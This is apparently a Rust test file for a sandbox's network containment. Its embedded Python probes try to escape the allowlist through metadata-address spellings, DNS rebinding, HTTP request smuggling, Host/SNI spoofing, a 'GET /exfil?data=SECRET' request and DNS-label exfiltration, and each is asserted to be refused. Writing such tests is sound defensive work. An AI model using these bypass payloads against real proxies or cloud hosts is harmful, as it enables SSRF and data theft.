//! Attempts to get around it: probes 48 to 62 of the containment list, each beside what is allowed.

use serde_json::{Value, json};

use crate::common::{Host, Sloplet, World, fast, world};
use crate::{both, check, python, python_outside};

/// What every list of outcomes of refused attempts may hold.
const REFUSALS: [&str; 4] = ["refused", "denied", "unreachable", "no name"];

#[track_caller]
fn all_refused(outcomes: &Value, sloplet: &Sloplet) {
    for (attempt, outcome) in outcomes.as_object().unwrap() {
        assert!(REFUSALS.contains(&outcome.as_str().unwrap_or_default()), "{attempt}: {outcome} ({})", sloplet.name);
    }
}

#[test]
fn probe_48_nothing_goes_around_it() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = "
def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]), ('45.33.10.1', 0))
        sock.recv(100)
        return 'ok'
def raw(*kind):
    socket.socket(*kind).close()
    return 'ok'
quic = bytes([0xc3, 0, 0, 0, 1, 8]) + bytes(1200)
show({
    'tcp': reach('45.33.10.2', 7), 'udp': datagram('45.33.10.1', 9999), 'quic': datagram('45.33.10.1', 443, quic),
    'quic by name': datagram(socket.getaddrinfo('example.com', 443)[0][4][0], 443, quic),
    'udp over ipv6': datagram('2600:3c00:10::1', 9999),
    'dns': datagram('45.33.10.53', 53, b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1'),
    'icmp': attempt(icmp), 'sctp': attempt(raw, socket.AF_INET, socket.SOCK_STREAM, 132),
    'raw': attempt(raw, socket.AF_INET, socket.SOCK_RAW, 255), 'packet': attempt(raw, socket.AF_PACKET, socket.SOCK_RAW, 0),
    'broadcast': datagram('255.255.255.255', 9999), 'netlink': 'refused',
})";
    for sloplet in both(&host, &world) {
        let without = python_outside(&sloplet, &world, program);
        for works in ["tcp", "udp", "quic", "udp over ipv6", "dns"] {
            assert_eq!(without[works], "ok", "{works} does not even work outside ({})", sloplet.name);
        }
        world.forget();
        let options = ["--allow=example.com"];
        let mut within = python(&sloplet, &world, &options, program);
        for kind in ["sctp", "icmp"] {
            // A kernel without it has other words.
            if within[kind].as_str().unwrap().contains("Error") {
                within[kind] = "refused".into();
            }
        }
        all_refused(&within, &sloplet);
        assert_eq!(world.seen(), Vec::<Value>::new(), "{}", sloplet.name);
        check(&sloplet, &world, &options, &[("example.com", 443, "ok")]);
    }
}

#[test]
fn probe_49_the_metadata_address_has_many_spellings() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = "
spellings = ['169.254.169.254', '2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '0xa9.254.0251.254', '169.254.43518',
    '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::1', '::169.254.169.254',
    'metadata.example.net', 'metadata.google.internal', '127.0.0.1', '0.0.0.0', '::1', '::', '0']
outcomes = {spelling: reach(spelling, 80) for spelling in spellings}
for spelling in spellings:
    literal = f'[{spelling}]' if ':' in spelling else spelling
    text = exchange('198.18.0.1', 3128, f'GET http://{literal}/latest HTTP/1.1\\r\\nHost: {literal}\\r\\n\\r\\n')
    outcomes['through the proxy: ' + spelling] = 'denied' if text.split(' ')[1] == '403' else text
    text = exchange('198.18.0.1', 3128, f'CONNECT {literal}:80 HTTP/1.1\\r\\nHost: {literal}:80\\r\\n\\r\\n')
    outcomes['CONNECT ' + spelling] = 'denied' if text.split(' ')[1] == '403' else text
show(outcomes)";
    let control = "show([reach(address, 80) for address in ('169.254.169.254', '2852039166', 'fd00:ec2::254', 'metadata.example.net')])";
    for sloplet in both(&host, &world) {
        assert_eq!(python_outside(&sloplet, &world, control), json!(vec!["ok"; 4]));
        for options in [["--allow-internet", "--ipv6"], ["--allow=*.example.net:*", "--allow=example.com"]] {
            world.forget();
            all_refused(&python(&sloplet, &world, &options, program), &sloplet);
            assert_eq!(world.seen_of("tcp"), Vec::<Value>::new(), "{options:?} ({})", sloplet.name);
            check(&sloplet, &world, &options, &[("both.example.net", 80, "ok")]);
        }
        // That very address may be allowed.
        check(&sloplet, &world, &["--allow=169.254.169.254:80"], &[("169.254.169.254", 80, "ok")]);
    }
}

#[test]
fn probe_50_a_redirect_is_a_new_decision() {
    let host = Host::shared();
    let world = World::new(&host);
    let script = "
        for to in http://169.254.169.254/ http://10.20.0.5/ http://127.0.0.1/ http://example.org/ https://example.com/fine; do
            curl -sL -o /dev/null -w '%{http_code} ' --cacert /world/ca.pem \"http://example.com/redirect?to=$to\" || true
        done";
    for sloplet in both(&host, &world) {
        world.forget();
        let out = sloplet.sh(&["--allow=example.com", &world.mount()], script).expect_code(0).out();
        // Nobody listens on the sandbox's own loopback; the unlisted name is not found: the redirect is the last answer.
        assert_eq!(out, "403 403 302 302 200 ", "{}", sloplet.name);
        assert!(world.seen_of("tcp").iter().all(|one| one["to"][0] == "45.33.10.1"), "{:?}", world.seen_of("tcp"));
    }
}

#[test]
fn probe_51_what_was_vetted_is_what_is_dialed() {
    let host = Host::shared();
    let world = World::new(&host);
    for sloplet in both(&host, &world) {
        world.rename("rebind.example.net", &["45.33.10.2"]);
        let options = ["--allow=rebind.example.net", "--allow=mixed.example.net", "--allow=private.example.net"];
        // The name leads elsewhere between two connections, and is asked for again by an egress of its own.
        let program =
            "show([reach('rebind.example.net', 80), reach('mixed.example.net', 80), reach('private.example.net', 80)])";
        assert_eq!(python(&sloplet, &world, &options, program), json!(["ok", "ok", "denied"]), "{}", sloplet.name);
        for private in ["10.20.0.5", "169.254.169.254", "127.0.0.1", world::NEAR, "::1", "fd00:ec2::254"] {
            world.rename("rebind.example.net", &[private]);
            world.forget();
            let outcome = python(&sloplet, &world, &options, "show(reach('rebind.example.net', 80))");
            assert_eq!(outcome, "denied", "{private} ({})", sloplet.name);
            assert_eq!(world.seen_of("tcp"), Vec::<Value>::new(), "{private}");
        }
        // Inside, a name has the same address whatever it leads to: nobody can race between a look and a leap.
        world.forget();
        assert!(world.asked_names().is_empty());
    }
}

#[test]
fn probe_52_the_proxy_opens_nothing_else() {
    let host = Host::shared();
    let world = World::new(&host);
    let control = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = control.local_addr().unwrap().port();
    let program = format!(
        "
outcomes = {{}}
for target in ['127.0.0.1:{port}', '0.0.0.0:{port}', '[::1]:{port}', '[::ffff:127.0.0.1]:{port}', 'localhost:{port}',
        '198.18.0.1:3128', '198.18.0.1:53', 'host.sloplet.internal:{port}', '{near}:{port}', '45.33.10.1:443', 'example.org:443',
        'example.com:22', 'example.com:0', 'example.com:99999', '@127.0.0.1:{port}', 'example.com@127.0.0.1:{port}',
        'example.com\\0.example.org:443', '2130706433:{port}', '0x7f.1:{port}']:
    for line in [f'CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n', f'GET http://{{target}}/ HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n']:
        text = exchange('198.18.0.1', 3128, line)
        status = text.split(' ')[1] if text.startswith('HTTP/1.1 ') else text
        outcomes[line.split('\\r')[0]] = 'denied' if status in ('400', '403') else text[:200]
allowed = exchange('198.18.0.1', 3128, 'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')
tunnel = connect('198.18.0.1', 3128)
tunnel.sendall(b'CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n')
yes = tunnel.recv(1000).split(b' ')[1].decode()
show([outcomes, allowed.split(' ')[1], yes, request(encrypted(tunnel, 'example.com'), 'example.com')])",
        near = world::NEAR
    );
    for sloplet in both(&host, &world) {
        let shown = python(&sloplet, &world, &["--allow=example.com"], &program);
        all_refused(&shown[0], &sloplet);
        assert_eq!([&shown[1], &shown[2], &shown[3]], ["200", "200", "ok"], "{}", sloplet.name);
    }
    control.set_nonblocking(true).unwrap();
    assert!(control.accept().is_err(), "somebody came to the host's loopback");
}

#[test]
fn probes_53_to_55_names_must_be_what_they_seem() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = "
def secure(place, shown, host):
    with connect(place, 443) as stream:
        return request(encrypted(stream, shown), host)
def plain(place, host):
    with connect(place, 80) as stream:
        return request(stream, host)
def proxied(target, shown):
    tunnel = connect('198.18.0.1', 3128)
    tunnel.sendall(f'CONNECT {target}:443 HTTP/1.1\\r\\nHost: {target}:443\\r\\n\\r\\n'.encode())
    return tunnel.recv(1000).split(b' ')[1].decode() if shown is None else (tunnel.recv(1000), request(encrypted(tunnel, shown), shown))[1]
right = [attempt(secure, 'example.com', 'example.com', 'example.com'), attempt(plain, 'example.com', 'example.com'),
    attempt(plain, 'example.com', 'EXAMPLE.com.:80'), reach('example.com.', 80)]
wrong = {
    'another SNI': attempt(secure, 'example.com', 'example.org', 'example.com'),
    'no SNI': attempt(secure, 'example.com', None, 'example.com'),
    'SNI of a subdomain': attempt(secure, 'example.com', 'www.example.com', 'example.com'),
    'another SNI in a tunnel': attempt(proxied, 'example.com', 'example.org'),
    'an address with an allowed SNI': attempt(secure, '45.33.10.1', 'example.com', 'example.com'),
    'an address with an allowed Host': attempt(plain, '45.33.10.1', 'example.com'),
    'another address with an allowed SNI': attempt(secure, '45.33.10.2', 'example.com', 'example.com'),
}
for host in ['example.org', 'evil-example.com', 'example.com.evil.test', 'example.com@example.org', 'example.com:8080', 'example.com,example.org', '']:
    wrong['Host ' + host] = 'denied' if ' 400 ' in (text := attempt(plain, 'example.com', host)) else text
for name in ['evil-example.com', 'example.com.evil.test', 'www.example.com', 'xn--exmple-cua.com', 'ex\\u00e4mple.com', 'example.com.example.org', 'com']:
    wrong['name ' + name] = reach(name, 80)
show([right, wrong])";
    for sloplet in both(&host, &world) {
        world.forget();
        let shown = python(&sloplet, &world, &["--allow=example.com"], program);
        assert_eq!(shown[0], json!(vec!["ok"; 4]), "{}", sloplet.name);
        all_refused(&shown[1], &sloplet);
        assert_eq!(world.asked_names(), ["example.com"], "{}", sloplet.name);
        let hosts: Vec<Value> = world.seen_of("http").iter().map(|one| one["host"].clone()).collect();
        assert_eq!(hosts.len(), 4, "{hosts:?}");
    }
}

#[test]
fn probe_56_requests_that_can_be_read_in_two_ways_are_refused() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = r"
import re
smuggled = 'GET /smuggled HTTP/1.1\r\nHost: example.org\r\n\r\n'
def status(text):
    return ','.join(re.findall('HTTP/1.1 ([0-9]+)', text)) or text
base = 'POST / HTTP/1.1\r\nHost: example.com\r\n'
show({
    'CL and TE': status(exchange('example.com', 80, base + 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + smuggled)),
    'two CL': status(exchange('example.com', 80, base + 'Content-Length: 0\r\nContent-Length: 50\r\n\r\n' + smuggled)),
    'folded': status(exchange('example.com', 80, 'GET / HTTP/1.1\r\nHost: example.com\r\nX: a\r\n b\r\n\r\n')),
    'bare LF': status(exchange('example.com', 80, 'GET / HTTP/1.1\nHost: example.com\n\n' + smuggled)),
    'bare CR': status(exchange('example.com', 80, 'GET / HTTP/1.1\rHost: example.org\r\r')),
    'absolute': status(exchange('example.com', 80, 'GET http://example.org/smuggled HTTP/1.1\r\nHost: example.com\r\n\r\n')),
    'two hosts': status(exchange('example.com', 80, 'GET / HTTP/1.1\r\nHost: example.com\r\nHost: example.org\r\n\r\n')),
    'strange TE': status(exchange('example.com', 80, base + 'Transfer-Encoding: xchunked\r\n\r\n' + smuggled)),
    'second host': status(exchange('example.com', 80, 'GET /first HTTP/1.1\r\nHost: example.com\r\n\r\n' + smuggled)),
    'unknown method': status(exchange('example.com', 80, 'FROB /smuggled HTTP/1.1\r\nHost: example.org\r\n\r\n')),
    'in pieces': status(exchange('example.com', 80, 'G', 'ET /smuggled HTTP/1.1\r\nHo', 'st: example.org\r\n\r\n')),
    'two good ones': status(exchange('example.com', 80, 'GET /a HTTP/1.1\r\nHost: example.com\r\n\r\nGET /b HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n')),
})";
    for sloplet in both(&host, &world) {
        world.forget();
        let shown = python(&sloplet, &world, &["--allow=example.com"], program);
        for (attempt, status) in shown.as_object().unwrap() {
            let expected: &[&str] = match attempt.as_str() {
                "two good ones" => &["200,200"],
                // The refusal may come before the first one's answer.
                "second host" => &["200,400", "400"],
                "bare CR" => &["400", "refused"],
                _ => &["400"],
            };
            assert!(expected.contains(&status.as_str().unwrap()), "{attempt}: {status} ({})", sloplet.name);
        }
        let paths: Vec<Value> = world.seen_of("http").iter().map(|one| one["path"].clone()).collect();
        assert_eq!(paths.iter().filter(|path| *path != "/first").collect::<Vec<_>>(), ["/a", "/b"], "{}", sloplet.name);
    }
}

#[test]
fn a_first_line_that_is_not_http_does_not_make_a_connection_raw() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = r"
right = 'GET /right HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n'
evil = 'GET /exfil?data=SECRET HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n'
def both(first):
    return exchange('example.com', 80, first, evil)
show({
    'right': exchange('example.com', 80, right),
    'long method': both('A' * 65 + ' / HTTP/1.1\r\nHost: example.com\r\n\r\n'),
    'tabs': both('GET\t/exfil\tHTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'spaces of Latin-1': both('GET\xa0/exfil\xa0HTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'leading space': both(' GET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'leading NUL': both('\0GET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'control character': both('GET /exfil\x01 HTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'lone CR': both('GET\rGET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
    'lone LF': both('GET /exfil HTTP/1.1\nHost: example.org\n\n'),
    '0.9': both('GET /exfil\r\n\r\n'),
    'another word': both('FROB /exfil\r\n\r\n'),
})";
    for sloplet in both(&host, &world) {
        world.forget();
        let shown = python(&sloplet, &world, &["--allow=example.com"], program);
        for (attempt, text) in shown.as_object().unwrap() {
            let expected: &[&str] = match attempt.as_str() {
                "right" => &["200"],
                // Its server knows no such method, and closes; the refusal of what follows may come before that.
                "long method" => &["501", "400"],
                _ => &["400"],
            };
            let status = text.as_str().unwrap().split(' ').nth(1).unwrap_or_default();
            assert!(expected.contains(&status), "{attempt}: {text}");
        }
        let paths: Vec<Value> = world.seen_of("http").iter().map(|one| one["path"].clone()).collect();
        assert_eq!(paths, ["/right"], "{}", sloplet.name);
    }
}

#[test]
fn text_that_is_no_http_passes_where_a_rule_says_tcp_or_the_server_spoke_first() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = r"
def says(host, port, words):
    with connect(host, port) as stream:
        stream.sendall(words)
        said = b''
        while not said.endswith(words):
            more = stream.recv(1000)
            if not more:
                return said.decode('latin-1')
            said += more
        return 'ok'
ping = b'*1\r\n$4\r\nPING\r\n'
show([attempt(says, 'example.org', 7, ping), attempt(says, 'example.org', 25, b'EHLO me\r\n'),
    attempt(says, 'example.com', 7, b'\0\0\0\x08\x04\xd2\x16\x2f'), attempt(says, 'example.com', 7, ping)])";
    for sloplet in both(&host, &world) {
        let options = ["--allow=example.org:7/tcp", "--allow=example.org:25", "--allow=example.com:7"];
        let shown = python(&sloplet, &world, &options, program);
        assert_eq!([&shown[0], &shown[1], &shown[2]], ["ok", "ok", "ok"], "{}: {shown}", sloplet.name);
        let refusal = shown[3].as_str().unwrap();
        assert!(refusal.starts_with("HTTP/1.1 400 ") && refusal.contains("--allow example.com:7/tcp"), "{refusal}");
    }
}

#[test]
fn probe_57_names_carry_nothing_out() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = r"
import struct
def ask(name, kind, server='198.18.0.1', port=53):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode().split(b'.'))
    query = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('!BHH', 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((server, port))
        sock.send(query)
        answer = sock.recv(4096)
    return [answer[3] & 15, struct.unpack('!H', answer[6:8])[0]]
secret = 'c2VjcmV0'
inside = [
    ask('example.com', 1), ask('example.com', 28), ask('example.com', 16), ask('example.com', 15), ask('example.com', 65),
    ask(secret + '.example.com', 1), ask(secret + '.example.org', 1), ask(secret + '.example.org', 16), ask('4.3.2.1.in-addr.arpa', 12),
    ask('example.com', 255),
]
around = {server + ' ' + str(port): attempt(ask, secret + '.example.org', 1, server, port) for server in ('45.33.10.53', '8.8.8.8', '10.99.7.1') for port in (53, 5353)}
around |= {f'{host} {port}': reach(host, port) for host, port in [('45.33.10.53', 53), ('45.33.10.53', 853), ('45.33.10.53', 443), ('dns.example.org', 443)]}
show([inside, around, reach('example.com', 80)])";
    for sloplet in both(&host, &world) {
        world.forget();
        let shown = python(&sloplet, &world, &["--allow=example.com"], program);
        let (no_error, no_name) = (0, 3);
        let expected = [
            (no_error, 1),
            (no_error, 0),
            (no_error, 0),
            (no_error, 0),
            (no_error, 0),
            (no_name, 0),
            (no_name, 0),
            (no_name, 0),
            (no_name, 0),
        ];
        for (number, (code, count)) in expected.iter().enumerate() {
            assert_eq!(shown[0][number], json!([code, count]), "question {number} ({})", sloplet.name);
        }
        all_refused(&shown[1], &sloplet);
        assert_eq!(shown[2], "ok", "{}", sloplet.name);
        // Only what was allowed and dialed was ever asked for outside.
        assert_eq!(world.asked_names(), ["example.com"], "{}", sloplet.name);
    }
}

#[test]
fn probe_58_neighbours_are_out_of_reach() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = "
def scoped(address, port, kind):
    with socket.socket(socket.AF_INET6, kind) as sock:
        sock.settimeout(PATIENCE if kind == socket.SOCK_STREAM else 1)
        sock.connect((address, port, 0, socket.if_nametoindex('lo')))
        sock.send(b'x')
        return 'ok' if sock.recv(100) else 'refused'
def mdns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect(('224.0.0.251', 5353))
        sock.send(b'x')
        sock.recv(100)
        return 'ok'
outcomes = {
    'link-local': attempt(scoped, 'fe80::1', 80, socket.SOCK_STREAM), 'all nodes': attempt(scoped, 'ff02::1', 9999, socket.SOCK_DGRAM),
    'mdns': attempt(mdns), 'multicast': reach('224.0.0.1', 80), 'class e': reach('240.0.0.1', 80),
    'link-local v4': reach('169.254.1.1', 80), 'documentation': reach('192.0.2.1', 80),
}
for number in list(range(1, 20)) + [254]:
    outcomes[f'sibling {number}'] = reach(f'198.18.0.{number}', 8000)
# Nobody is told of the fate of what is sent to many.
for many in ('all nodes', 'mdns'):
    outcomes[many] = outcomes[many].replace('hangs', 'unreachable')
show(outcomes)";
    for sloplet in both(&host, &world) {
        // A sibling that listens on everything it has.
        let listens = "import socket; s = socket.create_server(('', 8000)); print('listens', flush=True); s.accept()";
        let options = ["--allow-internet", "--ipv6"];
        let mut sibling = sloplet.invoke_run(&options, &["python3", "-c", listens]).unread_stdout().start();
        let mut line = String::new();
        let mut out = std::io::BufReader::new(sibling.stdout.take().unwrap());
        std::io::BufRead::read_line(&mut out, &mut line).unwrap();
        assert_eq!(line, "listens\n");
        world.forget();
        all_refused(&python(&sloplet, &world, &options, program), &sloplet);
        assert_eq!(world.seen(), Vec::<Value>::new());
        assert!(sibling.is_running(), "somebody reached it ({})", sloplet.name);
    }
}

#[test]
fn probe_60_slow_and_greedy_programs_are_bounded() {
    let host = Host::shared();
    let world = World::new(&host);
    let attempts = if fast() { 1000 } else { 10_000 };
    let program = format!(
        "
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
address = socket.getaddrinfo('example.com', 80)[0][4]
streams, open_ones = [], 0
for number in range({attempts}):
    stream = socket.socket()
    stream.settimeout(PATIENCE)
    try:
        stream.connect(address)
        stream.sendall(b'GET / HTTP/1.1\\r\\nHost: exa')
        streams.append(stream)
    except OSError:
        stream.close()
    if len(streams) > 900:
        # Those that were cut need not be held.
        kept = []
        for stream in streams:
            stream.settimeout(0)
            try:
                stream.recv(1)
                stream.close()
            except BlockingIOError:
                kept.append(stream)
            except OSError:
                stream.close()
        streams = kept
for stream in streams:
    stream.settimeout(1)
    try:
        stream.recv(1)
    except TimeoutError:
        open_ones += 1
    except OSError:
        pass
    if open_ones > 5:
        break
huge = exchange('198.18.0.1', 3128, 'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nX: ' + 'a' * 200000)
for stream in streams:
    stream.close()
import time
for _ in range(100):
    after = reach('example.com', 80)
    if after == 'ok':
        break
    time.sleep(0.3)
show([open_ones, len(streams), huge.split('\\r\\n')[0], after])"
    );
    for sloplet in both(&host, &world) {
        let running =
            sloplet.invoke_run(&["--allow=example.com", &world.mount()], &["python3", "-c", &crate::inside(&program)]);
        let ended = running.within(std::time::Duration::from_secs(240)).finish().expect_code(0);
        assert!(ended.peak_rss_kib < 200 << 10, "sloplet took {} KiB ({})", ended.peak_rss_kib, sloplet.name);
        let shown: Value = serde_json::from_str(ended.out().lines().last().unwrap()).unwrap();
        assert!(shown[0].as_u64().unwrap() > 5, "{shown}");
        assert!(["refused", "HTTP/1.1 400 Bad Request"].contains(&shown[2].as_str().unwrap()), "{shown}");
        assert_eq!(shown[3], "ok", "{shown} ({})", sloplet.name);
        // A neighbour has nothing to do with it.
        check(&sloplet, &world, &["--allow=example.com"], &[("example.com", 80, "ok")]);
    }
}
